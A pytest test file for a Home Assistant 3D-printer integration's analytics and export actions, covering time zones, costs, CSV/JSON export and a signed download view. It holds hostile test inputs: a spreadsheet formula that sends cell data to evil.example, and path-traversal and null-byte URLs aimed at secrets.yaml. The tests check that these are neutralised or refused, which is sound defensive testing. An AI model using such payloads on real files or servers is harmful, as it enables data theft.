"""The analytics and export actions, called as an automation would, and the download view.

The history is filled through its own API with records priced by the integration's cost model
(the printer's options), in Europe/Berlin, so a job's local day differs from its UTC day.
"""

from __future__ import annotations

import asyncio
import csv
from datetime import UTC, datetime, timedelta
from decimal import Decimal
import errno
import io
import json
import os
from pathlib import Path
import threading
import time
from typing import Any
from unittest.mock import patch
from zoneinfo import ZoneInfo

from homeassistant.core import HomeAssistant
from homeassistant.exceptions import HomeAssistantError, ServiceValidationError
from homeassistant.helpers import device_registry as dr
from homeassistant.util import dt as dt_util
from homeassistant.util.yaml import load_yaml_dict
from hypothesis import strategies as st
import pytest
from pytest_homeassistant_custom_component.common import MockConfigEntry, async_fire_time_changed
from pytest_homeassistant_custom_component.typing import ClientSessionGenerator
import voluptuous as vol
from yarl import URL

from custom_components.printernizer.actions import analytics
from custom_components.printernizer.const import CONF_COSTS, CONF_CURRENCY, DOMAIN, FLEET_UNIQUE_ID
from custom_components.printernizer.history import DATA_HISTORY
from custom_components.printernizer.jobs import JobRecord, JobStatus, MaterialUse
from custom_components.printernizer.jobs.costing import record_costs
from custom_components.printernizer.jobs.export import COLUMNS, GERMAN
from custom_components.printernizer.settings import fleet_entry
from simulator.bambu.printer import BambuSimulator

from .test_services import PRICES, call_data, examples, refused

BERLIN = ZoneInfo("Europe/Berlin")
OTHER = "OTHERPRINTER"  # a printer removed since: its jobs stay in the history
MARCH = {"start": "2026-03-01", "end": "2026-03-31"}
HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1)'


def job(
    job_id: str,
    serial: str,
    local_start: datetime,
    *,
    status: JobStatus = JobStatus.COMPLETED,
    hours: float = 2.0,
    grams: float = 100.0,
    material: str = "PLA",
    **fields: Any,
) -> JobRecord:
    start = local_start.replace(tzinfo=BERLIN).astimezone(UTC)
    end = start + timedelta(hours=hours)
    return JobRecord(
        id=job_id,
        serial=serial,
        printer_name="P1S" if serial != OTHER else "Old MK4",
        started_at=start,
        updated_at=end,
        ended_at=end,
        duration_seconds=hours * 3600,
        status=status,
        job_name=f"Part {job_id}",
        materials=(MaterialUse(material=material, planned_grams=grams, grams=grams),),
        **fields,
    )


def march(serial: str) -> list[JobRecord]:
    """Four jobs started in March (local time), two before it and one after it."""
    return [
        # 00:30 on 1 March in Berlin is still 28 February in UTC.
        job("a", serial, datetime(2026, 3, 1, 0, 30), category="business", customer="ACME",
            notes=HOSTILE_NOTE),
        job("b", serial, datetime(2026, 3, 10, 10), category="private",
            customer='Müller; "Co"', material="PETG", grams=50.0, hours=1.0),
        job("c", serial, datetime(2026, 3, 31, 23, 30), status=JobStatus.FAILED,
            category="business"),
        job("e", OTHER, datetime(2026, 3, 15, 8), category="business", customer="ACME"),
        job("before", serial, datetime(2026, 2, 28, 22), category="business"),  # ends at 0:00
        job("spanning", serial, datetime(2026, 2, 28, 23), category="business"),  # 1 h in March
        # 00:10 on 1 April in Berlin is 31 March in UTC.
        job("after", serial, datetime(2026, 4, 1, 0, 10), category="business"),
    ]  # fmt: skip


@pytest.fixture
async def entry(
    hass: HomeAssistant, bambu_entry: MockConfigEntry, bambu_sim: BambuSimulator, tmp_path: Path
) -> Any:
    hass.config.config_dir = str(tmp_path / "config")
    await hass.config.async_set_time_zone("Europe/Berlin")
    hass.config_entries.async_update_entry(bambu_entry, options=PRICES)
    assert await hass.config_entries.async_setup(bambu_entry.entry_id)
    await hass.async_block_till_done()
    settings = bambu_entry.runtime_data.jobs.settings()
    history = hass.data[DATA_HISTORY]
    for record in march(bambu_sim.serial):
        history.put(record_costs(record, settings))
    yield bambu_entry
    await hass.config_entries.async_unload(bambu_entry.entry_id)
    await hass.async_block_till_done()


def exports(hass: HomeAssistant) -> Path:
    return Path(hass.config.path("printernizer", "exports"))


def printer_device(hass: HomeAssistant, serial: str) -> str:
    device = dr.async_get(hass).async_get_device(identifiers={(DOMAIN, serial)})
    assert device is not None
    return device.id


async def call(hass: HomeAssistant, service: str, **data: Any) -> Any:
    return await hass.services.async_call(
        DOMAIN, service, data, blocking=True, return_response=True
    )


def gross(hass: HomeAssistant, *job_ids: str) -> float:
    """The sum of the jobs' gross amounts as each record shows it."""
    history = hass.data[DATA_HISTORY]
    return float(sum(Decimal(history.get(job_id).cost["gross"]) for job_id in job_ids))


@pytest.mark.usefixtures("entry")
async def test_overview_counts_jobs_by_their_local_start_day(
    hass: HomeAssistant, bambu_sim: BambuSimulator
) -> None:
    result = await call(hass, "get_overview", **MARCH)
    assert result["period"] == {
        "kind": "custom",
        "label": "2026-03-01_2026-03-31",
        "start": "2026-02-28T23:00:00+00:00",
        "end": "2026-03-31T22:00:00+00:00",  # summer time from 29 March
    }
    assert result["currency"] == "EUR"
    assert result["jobs"] == 4
    assert result["by_status"]["completed"] == 3
    assert result["by_status"]["failed"] == 1
    assert result["success_rate"] == 75.0
    # A 2 h job with 100 g PLA at 20/kg, 200 W at 0.30/kWh, wear 0.50/h, 19 % VAT:
    # 2.00 + 0.12 + 1.00 = 3.12 net, 0.59 VAT, 3.71 gross; the hour with 50 g PETG at 30/kg:
    # 1.50 + 0.06 + 0.50 = 2.06 net, 0.39 VAT, 2.45 gross.
    assert hass.data[DATA_HISTORY].get("a").cost["gross"] == "3.71"
    assert result["gross"] == pytest.approx(gross(hass, "a", "b", "c", "e"), abs=1e-9)
    assert result["gross"] == 13.58
    assert isinstance(result["net"], float)
    assert result["categories"]["business"]["jobs"] == 3
    assert result["categories"]["private"]["jobs"] == 1
    assert result["top_customers"][0]["name"] == "ACME"
    assert result["top_customers"][0]["gross"] == 7.42
    by_type = {item["material"]: item for item in result["materials"]["by_type"]}
    assert by_type["PLA"]["grams"] == 300.0
    assert by_type["PLA"]["cost"] == 6.0
    assert by_type["PETG"]["grams"] == 50.0


@pytest.mark.usefixtures("entry")
async def test_responses_are_plain_json(hass: HomeAssistant) -> None:
    """What a script's response variable and the websocket API get: no Decimal, no NaN."""
    for service in ("get_overview", "get_printer_stats", "get_material_usage", "export_jobs"):
        result = await call(hass, service, **MARCH)
        assert json.loads(json.dumps(result, allow_nan=False)) == result, service


@pytest.mark.usefixtures("entry")
async def test_overview_filters(hass: HomeAssistant, bambu_sim: BambuSimulator) -> None:
    device = printer_device(hass, bambu_sim.serial)
    cases = [
        ({"device_id": device}, {"a", "b", "c"}),
        ({"category": "business"}, {"a", "c", "e"}),
        ({"status": ["completed"]}, {"a", "b", "e"}),
        ({"customer": "ACME"}, {"a", "e"}),
        ({"customer": 'Müller; "Co"', "category": ["private"]}, {"b"}),
        ({"device_id": [device], "status": "failed"}, {"c"}),
    ]
    for filters, expected in cases:
        result = await call(hass, "get_overview", **MARCH, **filters)
        assert result["jobs"] == len(expected), filters
        assert result["gross"] == pytest.approx(gross(hass, *expected), abs=1e-9), filters


@pytest.mark.usefixtures("entry")
async def test_a_filament_unit_stands_for_its_printer_and_the_fleet_is_no_printer(
    hass: HomeAssistant, bambu_sim: BambuSimulator
) -> None:
    registry = dr.async_get(hass)
    printer = printer_device(hass, bambu_sim.serial)
    units = [device for device in registry.devices.values() if device.via_device_id == printer]
    assert units  # the simulated P1S has an AMS
    result = await call(hass, "get_overview", **MARCH, device_id=units[0].id)
    assert result["jobs"] == 3
    fleet = registry.async_get_device(identifiers={(DOMAIN, FLEET_UNIQUE_ID)})
    assert fleet is not None
    for service in ("get_overview", "export_jobs"):
        with pytest.raises(ServiceValidationError) as err:
            await call(hass, service, **MARCH, device_id=[printer, fleet.id])
        assert refused(err.value) == "printer_not_found"


@pytest.mark.usefixtures("entry")
async def test_running_jobs_count_as_running(hass: HomeAssistant) -> None:
    """Running jobs live in the history's other file: they are counted and exported too."""
    history = hass.data[DATA_HISTORY]
    for job_id, day in (("run1", 5), ("run2", 20)):
        running = job(job_id, f"PRINTER{day}", datetime(2026, 3, day, 12))
        history.put(
            JobRecord(
                id=running.id,
                serial=running.serial,
                printer_name=running.printer_name,
                started_at=running.started_at,
                updated_at=running.started_at,
                job_name=running.job_name,
            )
        )
    result = await call(hass, "get_overview", **MARCH)
    assert result["jobs"] == 6
    assert result["by_status"]["active"] == 2
    export = await call(hass, "export_jobs", **MARCH, format="json")
    rows = json.loads(Path(export["path"]).read_text(encoding="utf-8"))
    assert [row["job"] for row in rows] == [
        "Part a",
        "Part run1",
        "Part b",
        "Part e",
        "Part run2",
        "Part c",
    ]
    assert rows[1]["status"] == "active"
    assert rows[1]["gross"] is None  # not yet known, never 0


@pytest.mark.usefixtures("entry")
async def test_money_is_in_the_fleets_currency(hass: HomeAssistant) -> None:
    """Jobs priced in another currency are counted apart, never summed in."""
    fleet = fleet_entry(hass)
    assert fleet is not None
    hass.config_entries.async_update_entry(
        fleet, options={**fleet.options, CONF_COSTS: {CONF_CURRENCY: "CHF"}}
    )
    await hass.async_block_till_done()
    result = await call(hass, "get_overview", **MARCH)
    assert result["currency"] == "CHF"
    assert result["jobs_other_currency"] == 4
    assert result["jobs_without_cost"] == 4
    assert result["gross"] == 0.0
    export = await call(hass, "export_jobs", **MARCH)
    assert set(export["totals"]) == {"EUR"}  # the export keeps each job's own currency


@pytest.mark.usefixtures("entry")
async def test_calendar_periods_are_local(hass: HomeAssistant, bambu_sim: BambuSimulator) -> None:
    """Last month, this year: whatever today is, counted in Home Assistant's time zone."""
    now = dt_util.now()
    first = now.replace(day=1, hour=0, minute=0, second=0, microsecond=0)
    last_month = (first - timedelta(days=1)).replace(day=1)
    history = hass.data[DATA_HISTORY]
    history.put(job("last-month", bambu_sim.serial, last_month.replace(tzinfo=None)))
    history.put(job("this-month", bambu_sim.serial, first.replace(tzinfo=None)))
    result = await call(hass, "get_overview", period="month", offset=-1)
    assert result["period"]["label"] == f"{last_month.year}-{last_month.month:02d}"
    assert result["jobs"] == 1
    result = await call(hass, "get_overview")  # this month by default
    assert result["jobs"] == 1
    today = await call(hass, "get_overview", period="today")
    assert today["period"]["label"] == now.date().isoformat()


@pytest.mark.usefixtures("entry")
async def test_printer_stats_and_material_usage(
    hass: HomeAssistant, bambu_sim: BambuSimulator
) -> None:
    stats = await call(hass, "get_printer_stats", **MARCH)
    assert stats["currency"] == "EUR"
    printers = {item["serial"]: item for item in stats["printers"]}
    assert set(printers) == {bambu_sim.serial, OTHER}
    mine = printers[bambu_sim.serial]
    assert mine["jobs"] == 3
    assert mine["failures"] == {"failed": 1}
    assert mine["success_rate"] == 66.7
    assert mine["gross"] == pytest.approx(gross(hass, "a", "b", "c"), abs=1e-9)
    # 2 + 1 h, the half hour of job c before 1 April and the hour of a February job after
    # midnight (not the one that ended at midnight); the period lasts 743 h.
    assert mine["busy_hours"] == 4.5
    assert mine["utilization"] == round(4.5 / 743 * 100, 1)
    usage = await call(hass, "get_material_usage", **MARCH)
    assert [(item["material"], item["grams"]) for item in usage["by_type"]] == [
        ("PLA", 300.0),
        ("PETG", 50.0),
    ]
    assert {(item["serial"], item["material"]) for item in usage["by_printer"]} == {
        (bambu_sim.serial, "PLA"),
        (bambu_sim.serial, "PETG"),
        (OTHER, "PLA"),
    }


def read_csv(path: Path, dialect: str) -> list[list[str]]:
    raw = path.read_bytes()
    if dialect == "german":
        assert raw.startswith("\ufeff".encode())
    else:
        assert not raw.startswith("\ufeff".encode())
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=";" if dialect == "german" else ","))


@pytest.mark.usefixtures("entry")
@pytest.mark.parametrize("dialect", ["international", "german"])
async def test_csv_export_round_trips_through_the_csv_module(
    hass: HomeAssistant, dialect: str
) -> None:
    result = await call(hass, "export_jobs", **MARCH, dialect=dialect)
    suffix = "-de" if dialect == "german" else ""
    assert result["file_name"] == f"printernizer-jobs-2026-03-01_2026-03-31{suffix}.csv"
    path = Path(result["path"])
    assert path == exports(hass) / result["file_name"]
    assert result["rows"] == 4
    assert result["size"] == path.stat().st_size
    assert result["totals"]["EUR"]["gross"] == pytest.approx(
        gross(hass, "a", "b", "c", "e"), abs=1e-9
    )
    rows = read_csv(path, dialect)
    assert rows[0] == list(COLUMNS if dialect == "international" else GERMAN.headers)
    cells = [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]
    assert [cell["job"] for cell in cells] == ["Part a", "Part b", "Part e", "Part c"]
    first, second = cells[0], cells[1]
    if dialect == "german":
        assert first["date"] == "01.03.2026"
        assert first["gross"] == "3,71"
        assert first["status"] == "abgeschlossen"
        assert first["category"] == "geschäftlich"
    else:
        assert first["date"] == "2026-03-01"
        assert first["gross"] == "3.71"
        assert first["status"] == "completed"
    assert first["notes"] == "'" + HOSTILE_NOTE  # shown as text, never run as a formula
    assert second["customer"] == 'Müller; "Co"'


@pytest.mark.usefixtures("entry")
async def test_json_export_with_filters(hass: HomeAssistant) -> None:
    result = await call(
        hass, "export_jobs", **MARCH, format="json", customer="ACME", tag="acme invoices"
    )
    assert result["file_name"] == "printernizer-jobs-2026-03-01_2026-03-31-acme-invoices.json"
    assert result["dialect"] is None
    rows = json.loads(Path(result["path"]).read_text(encoding="utf-8"))
    assert [row["job"] for row in rows] == ["Part a", "Part e"]
    assert rows[0]["date"] == "2026-03-01"
    assert result["rows"] == 2


@pytest.mark.usefixtures("entry")
async def test_a_hostile_tag_stays_in_the_exports_folder(hass: HomeAssistant) -> None:
    result = await call(hass, "export_jobs", **MARCH, tag="../../../secrets/..\\x")
    path = Path(result["path"])
    assert path.parent == exports(hass)
    assert path.name == result["file_name"]
    assert "/" not in result["file_name"]
    assert ".." not in result["file_name"]


async def test_download_needs_a_signed_in_user(
    hass: HomeAssistant,
    entry: MockConfigEntry,
    hass_client: ClientSessionGenerator,
    hass_client_no_auth: ClientSessionGenerator,
) -> None:
    result = await call(hass, "export_jobs", **MARCH, dialect="german")
    content = Path(result["path"]).read_bytes()
    client = await hass_client()
    response = await client.get(result["url"])
    assert response.status == 200
    assert await response.read() == content
    assert response.headers["Content-Type"].startswith("text/csv")
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="{result["file_name"]}"'
    )
    anonymous = await hass_client_no_auth()
    assert (await anonymous.get(result["url"])).status == 401
    # The signed link opens without a token (a browser, a notification), and only its path.
    signed = await anonymous.get(result["download_url"])
    assert signed.status == 200
    assert await signed.read() == content
    query = result["download_url"].partition("?")[2]
    other = f"{analytics.EXPORTS_URL}/printernizer-jobs-other.csv?{query}"
    assert (await anonymous.get(other)).status == 401


async def test_hostile_file_names_are_not_served(
    hass: HomeAssistant, entry: MockConfigEntry, hass_client: ClientSessionGenerator
) -> None:
    result = await call(hass, "export_jobs", **MARCH)
    folder = exports(hass)
    secret = Path(hass.config.path("secrets.yaml"))
    secret.write_text("password: hunter2\n")
    (folder / "printernizer-jobs-link.csv").symlink_to(secret)
    (folder / "notes.txt").write_text("not an export")
    (folder / ".printernizer-jobs-2026-03.csv.0123abcd.part").write_text("half")
    (folder / "printernizer-jobs-dir.csv").mkdir()
    client = await hass_client()
    base = analytics.EXPORTS_URL
    # Traversal HA's own filter refuses before any view (400), or the view does not find (404).
    for name in (
        "..%2F..%2Fsecrets.yaml",
        "..%2f..%2fsecrets.yaml",
        "%2E%2E%2F%2E%2E%2Fsecrets.yaml",
        "..%5C..%5Csecrets.yaml",
        f"{secret}".replace("/", "%2F"),
        "printernizer-jobs-2026-03%00..%2F..%2Fsecrets.csv",
    ):
        response = await client.get(URL(f"{base}/{name}", encoded=True))
        assert response.status in (400, 404), name
        assert b"hunter2" not in await response.read(), name
    for path in ("/../../secrets.yaml", "/../secrets.yaml", "/%2E%2E/%2E%2E/secrets.yaml"):
        response = await client.get(URL(f"{base}{path}", encoded=True))
        assert response.status in (400, 404), path
        assert b"hunter2" not in await response.read(), path
    # Names the view sees and refuses.
    for name in (
        "printernizer-jobs-link.csv",
        "notes.txt",
        ".printernizer-jobs-2026-03.csv.0123abcd.part",
        "printernizer-jobs-dir.csv",
        f"{result['file_name']}%00",
        f"{result['file_name']}%00.csv",
        "printernizer-jobs-missing.csv",
        "printernizer-jobs-..csv",
    ):
        response = await client.get(URL(f"{base}/{name}", encoded=True))
        assert response.status == 404, name
        assert b"hunter2" not in await response.read(), name
    for name in ("../../secrets.yaml", str(secret), "printernizer-jobs-x.csv\x00", ""):
        assert analytics.servable(folder, name) is None, name


def age(path: Path, days: float) -> None:
    stamp = time.time() - days * 86400
    os.utime(path, (stamp, stamp), follow_symlinks=False)


async def test_old_exports_are_removed_at_setup_and_daily(
    hass: HomeAssistant, bambu_entry: MockConfigEntry, tmp_path: Path
) -> None:
    hass.config.config_dir = str(tmp_path / "config")
    folder = exports(hass)
    folder.mkdir(parents=True)
    old = folder / "printernizer-jobs-2025-01.csv"
    old.write_text("old")
    age(old, 31)
    assert await hass.config_entries.async_setup(bambu_entry.entry_id)
    await hass.async_block_till_done()
    assert not old.exists()
    files = {
        "printernizer-jobs-2025-02.csv": 29,  # young enough
        "printernizer-jobs-2025-03.json": 20,
        "printernizer-jobs-2025-04.json": 31,  # too old
        ".printernizer-jobs-2025-05.csv.0123abcd.part": 31,  # a partial file left by a crash
        "notes.txt": 400,  # not ours
        "printernizer-jobs-2025-06.txt": 400,  # not a name we write
    }
    for name, days in files.items():
        (folder / name).write_text(name)
        age(folder / name, days)
    outside = tmp_path / "config" / "printernizer-jobs-2025-07.csv"
    outside.write_text("outside")
    age(outside, 400)
    link = folder / "printernizer-jobs-2025-08.csv"
    link.symlink_to(outside)
    age(link, 400)
    async_fire_time_changed(hass, dt_util.utcnow() + timedelta(days=1, seconds=1))
    await hass.async_block_till_done(wait_background_tasks=True)  # timers run in the background
    assert sorted(path.name for path in folder.iterdir()) == [
        "notes.txt",
        "printernizer-jobs-2025-02.csv",
        "printernizer-jobs-2025-03.json",
        "printernizer-jobs-2025-06.txt",
        "printernizer-jobs-2025-08.csv",  # a symlink is not ours: neither served nor removed
    ]
    assert outside.read_text() == "outside"
    await hass.config_entries.async_unload(bambu_entry.entry_id)
    await hass.async_block_till_done()


@pytest.mark.parametrize(
    ("saved", "kept"), [(7, 7), (0, 30), ("90", 30), (10**6, 30), (None, 30), (True, 30)]
)
async def test_kept_days_are_remembered_and_set_by_an_export(
    hass: HomeAssistant,
    bambu_entry: MockConfigEntry,
    tmp_path: Path,
    hass_storage: dict[str, Any],
    saved: Any,
    kept: int,
) -> None:
    hass.config.config_dir = str(tmp_path / "config")
    hass_storage["printernizer.exports"] = {
        "version": 1,
        "key": "printernizer.exports",
        "data": {"keep_days": saved},
    }
    folder = exports(hass)
    folder.mkdir(parents=True)
    for days in (kept - 1, kept + 1):
        (folder / f"printernizer-jobs-{days}.csv").write_text("x")
        age(folder / f"printernizer-jobs-{days}.csv", days)
    assert await hass.config_entries.async_setup(bambu_entry.entry_id)
    await hass.async_block_till_done()
    assert [path.name for path in folder.iterdir()] == [f"printernizer-jobs-{kept - 1}.csv"]
    result = await call(hass, "export_jobs", **MARCH, keep_days=400)
    assert result["keep_days"] == 400
    assert hass_storage["printernizer.exports"]["data"] == {"keep_days": 400}
    age(folder / f"printernizer-jobs-{kept - 1}.csv", 399)
    async_fire_time_changed(hass, dt_util.utcnow() + timedelta(days=1, seconds=1))
    await hass.async_block_till_done(wait_background_tasks=True)  # timers run in the background
    assert len(list(folder.iterdir())) == 2
    await hass.config_entries.async_unload(bambu_entry.entry_id)
    await hass.async_block_till_done()


@pytest.mark.usefixtures("entry")
async def test_two_exports_of_one_name_at_once_both_succeed(hass: HomeAssistant) -> None:
    """Both calls have their files open before either writes (a barrier in the first write)."""
    barrier = threading.Barrier(2, timeout=10)
    real_open = open

    class Meeting(io.TextIOWrapper):
        met = False

        def write(self, text: str) -> int:
            if not self.met:
                self.met = True
                barrier.wait()
            return super().write(text)

    def meeting(file: Any, mode: str = "r", **kwargs: Any) -> Any:
        return Meeting(real_open(file, mode + "b"), **kwargs)

    with patch.object(analytics, "open", meeting, create=True):
        first, second = await asyncio.gather(
            call(hass, "export_jobs", **MARCH), call(hass, "export_jobs", **MARCH)
        )
    assert first["path"] == second["path"]
    assert list(exports(hass).iterdir()) == [Path(first["path"])]
    rows = read_csv(Path(first["path"]), "international")
    assert len(rows) == 5
    assert rows[0] == list(COLUMNS)


@pytest.mark.usefixtures("entry")
async def test_a_full_disk_keeps_the_earlier_export_and_the_history(hass: HomeAssistant) -> None:
    earlier = await call(hass, "export_jobs", **MARCH)
    path = Path(earlier["path"])
    content = path.read_bytes()
    history = hass.data[DATA_HISTORY]
    history.put(job("late", "LATEPRINTER", datetime(2026, 3, 20, 12)))
    real_open = open

    class FullDisk(io.TextIOWrapper):
        """A file whose device fills up after the first 100 characters."""

        written = 0

        def write(self, text: str) -> int:
            self.written += len(text)
            if self.written > 100:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
            return super().write(text)

    def full_disk(file: Any, mode: str = "r", **kwargs: Any) -> Any:
        assert mode == "x"
        return FullDisk(real_open(file, "wb"), **kwargs)

    with (
        patch.object(analytics, "open", full_disk, create=True),
        pytest.raises(HomeAssistantError) as err,
    ):
        await call(hass, "export_jobs", **MARCH)
    assert err.value.translation_key == "export_disk_full"
    assert err.value.translation_placeholders["name"] == earlier["file_name"]
    refused(err.value)  # in every language
    assert sorted(p.name for p in exports(hass).iterdir()) == [earlier["file_name"]]
    assert path.read_bytes() == content
    assert history.get("late") is not None
    again = await call(hass, "export_jobs", **MARCH)
    assert again["rows"] == earlier["rows"] + 1


@pytest.mark.usefixtures("entry")
@pytest.mark.parametrize(
    ("data", "key"),
    [
        ({"start": "2026-03-31", "end": "2026-03-01"}, "invalid_range"),
        ({"start": "2026-03-02T10:00:00", "end": "2026-03-02T10:00:00"}, "invalid_range"),
        ({"start": "2026-03-01"}, "custom_period_range"),
        ({"period": "month", **MARCH}, "custom_period_range"),
        ({"period": "custom"}, "custom_period_range"),
        ({"period": "fortnight"}, "invalid_choice"),
        ({"status": ["completed", "exploded"]}, "invalid_choice"),
        ({"category": "hobby"}, "invalid_choice"),
        ({"device_id": "not-a-device"}, "printer_not_found"),
        ({"customer": "ACME\x00"}, "invalid_text"),
        ({"start": "0001-01-01", "end": "2026-03-01"}, "invalid_period"),
        ({"start": "2026-03-01", "end": "9999-12-31"}, "invalid_period"),
        (
            {"start": "9999-12-31T20:00:00-12:00", "end": "9999-12-31T21:00:00-12:00"},
            "invalid_period",
        ),
        ({"start": "0001-01-01T00:30:00+05:00", "end": "2026-03-01"}, "invalid_period"),
        ({"keep_days": 0}, "invalid"),
        ({"keep_days": 3651}, "invalid"),
        ({"period": "year", "offset": -1200}, None),  # the year 826 is fine
        ({"period": "month", "offset": 1200}, None),
    ],
    ids=repr,
)
async def test_bad_requests_are_explained(
    hass: HomeAssistant, data: dict[str, Any], key: str | None
) -> None:
    for service in ("get_overview", "get_printer_stats", "get_material_usage", "export_jobs"):
        if key == "invalid":
            if service == "export_jobs":
                with pytest.raises(vol.Invalid):
                    await call(hass, service, **data)
            continue
        if key is None:
            await call(hass, service, **data)
            continue
        with pytest.raises(ServiceValidationError) as err:
            await call(hass, service, **data)
        assert refused(err.value) == key, service


@pytest.mark.usefixtures("entry")
@pytest.mark.parametrize(
    ("data", "key"),
    [({"format": "xlsx"}, "invalid_choice"), ({"dialect": "klingon"}, "invalid_choice")],
)
async def test_unknown_export_formats_are_explained(
    hass: HomeAssistant, data: dict[str, Any], key: str
) -> None:
    with pytest.raises(ServiceValidationError) as err:
        await call(hass, "export_jobs", **MARCH, **data)
    assert refused(err.value) == key
    assert not exports(hass).exists() or not list(exports(hass).iterdir())


async def test_hostile_action_data_is_refused_or_answered(
    hass: HomeAssistant, entry: MockConfigEntry, bambu_sim: BambuSimulator
) -> None:
    """Every call answers or is refused as invalid (translated); nothing raises raw."""
    device = printer_device(hass, bambu_sim.serial)
    days = st.dates(min_value=datetime(1, 1, 2).date(), max_value=datetime(9999, 12, 30).date())
    stamps = st.datetimes(min_value=datetime(2026, 1, 1), max_value=datetime(2026, 12, 31))
    fields = {
        "period": st.sampled_from(["today", "week", "month", "year", "custom", "decade"]),
        "offset": st.integers(-1300, 1300),
        "start": days.map(str) | stamps.map(datetime.isoformat) | stamps,
        "end": days | stamps.map(datetime.isoformat),
        "device_id": st.sampled_from([device, [device, device], "nope", []]),
        "category": st.sampled_from(["business", ["private"], "x"]),
        "status": st.sampled_from(["completed", ["failed", "active"], "gone"]),
        "customer": st.text(max_size=10) | st.lists(st.text(max_size=5), max_size=3),
    }
    plans = {
        "get_overview": call_data(**fields),
        "get_material_usage": call_data(**fields),
        "export_jobs": call_data(
            **fields,
            format=st.sampled_from(["csv", "json", "pdf"]),
            dialect=st.sampled_from(["international", "german", "x"]),
            tag=st.text(max_size=60),
        ),
    }
    outcomes: dict[str, int] = {}
    for service, strategy in plans.items():
        for data in examples(strategy, 120):
            try:
                await call(hass, service, **data)
                outcome = "ok"
            except ServiceValidationError as err:
                outcome = refused(err)
            except vol.Invalid:
                outcome = "invalid"
            except Exception as err:
                raise AssertionError(f"{service} raised {err!r} for {data!r:.300}") from err
            outcomes[outcome] = outcomes.get(outcome, 0) + 1
    assert outcomes["ok"] > 50
    assert outcomes["invalid"] > 50
    assert {"invalid_choice", "custom_period_range", "printer_not_found"} <= set(outcomes)
    folder = exports(hass)
    assert all(path.parent == folder for path in folder.iterdir())


def test_actions_are_described_in_both_languages() -> None:
    """What the action editor shows: every field with a selector, a name in en and de, an icon."""
    component = Path(analytics.__file__).parents[1]
    described = load_yaml_dict(str(component / "services.yaml"))
    icons = json.loads((component / "icons.json").read_text())
    languages = {
        language: json.loads((component / "translations" / f"{language}.json").read_text())
        for language in ("en", "de")
    }
    query = {"period", "offset", "start", "end", "device_id", "category", "status", "customer"}
    for service, expected in (
        ("get_overview", query),
        ("get_printer_stats", query),
        ("get_material_usage", query),
        ("export_jobs", query | {"format", "dialect", "tag", "keep_days"}),
    ):
        fields = described[service]["fields"]
        assert set(fields) == expected, service
        assert all("selector" in field for field in fields.values()), service
        for language, strings in languages.items():
            assert set(strings["services"][service]["fields"]) == expected, (language, service)
            assert strings["services"][service]["name"], (language, service)
        assert icons["services"][service]["service"].startswith("mdi:"), service
